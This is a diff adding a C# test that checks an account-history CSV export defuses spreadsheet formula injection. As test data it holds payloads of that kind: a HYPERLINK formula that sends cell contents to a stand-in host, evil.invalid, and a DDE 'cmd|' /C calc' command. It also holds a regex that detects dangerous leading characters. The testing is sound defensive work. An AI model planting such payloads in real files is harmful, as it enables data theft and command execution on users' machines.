@@ -165,6 +165,40 @@ public sealed class when_auditing_an_accounts_history(ProductFixture product)
         (await stranger.Session.GetAsync($"{history}?handler=Export&format=csv")).Status.ShouldBe(HttpStatusCode.NotFound);
     }
 
+    [Fact]
+    public async Task its_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas_and_still_round_trips()
+    {
+        using var user = await product.NewUserAsync();
+        var title = "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"Invoice\") " + Guid.NewGuid().ToString("N")[..6];
+        var form = AccountForms.Valid(title, "formula@example.com", name: "@SUM(1+1)");
+        (await user.Session.SubmitAsync(AccountForms.AddPage, form)).Status.ShouldBe(HttpStatusCode.Redirect);
+        var list = (await user.Session.GetAsync("/Email/Settings/Accounts")).Html;
+        var edit = AccountForms.EditPathIn(list);
+        var version = VersionIn((await user.Session.GetAsync(edit)).Html);
+        (await user.Session.SubmitAsync(edit, form.With("Input.Password", "").With("Input.Name", "-2+3").With("Input.Version", version)))
+            .Status.ShouldBe(HttpStatusCode.Redirect);
+        version = VersionIn((await user.Session.GetAsync(edit)).Html);
+        (await user.Session.SubmitAsync(edit, form.With("Input.Password", "").With("Input.Name", "'+cmd|' /C calc'!A0").With("Input.Version", version)))
+            .Status.ShouldBe(HttpStatusCode.Redirect);
+        var account = Guid.Parse(edit[^36..]);
+        await using var session = product.Services.GetRequiredService<IDocumentStore>().QuerySession();
+        var expected = HistoryExport.Entries(
+            await SettingsHistory.LoadAsync<Account>(session, account, Account.Evolve, Account.Settings, CancellationToken.None), Account.PasswordSetting);
+
+        using var csv = await user.Session.GetResponseAsync($"{AccountForms.HistoryPathIn(list)}?handler=Export&format=csv");
+        var text = await csv.Content.ReadAsStringAsync();
+
+        // A cell, quoted or not, that starts with what Excel or LibreOffice would run: none; each is text, with an apostrophe.
+        Regex.Matches(text, "(?:^|,)\"?(?:[=+\\-@\t]|\r(?!\n))", RegexOptions.Multiline).Select(m => m.Value).ShouldBeEmpty();
+        text.ShouldContain("'=HYPERLINK(");
+        text.ShouldContain("'@SUM(1+1)");
+        text.ShouldContain("'-2+3");
+        text.ShouldContain("''+cmd|");
+        HistoryExport.FromCsv(text).SequenceEqual(expected, new ExportedEntryComparer()).ShouldBeTrue();
+        expected.SelectMany(e => e.Changes).Select(c => c.After).ShouldContain(title);
+        expected.SelectMany(e => e.Changes).Select(c => c.After).ShouldContain("'+cmd|' /C calc'!A0");
+    }
+
     private sealed class ExportedEntryComparer : IEqualityComparer<ExportedEntry>
     {
         public bool Equals(ExportedEntry? x, ExportedEntry? y) =>
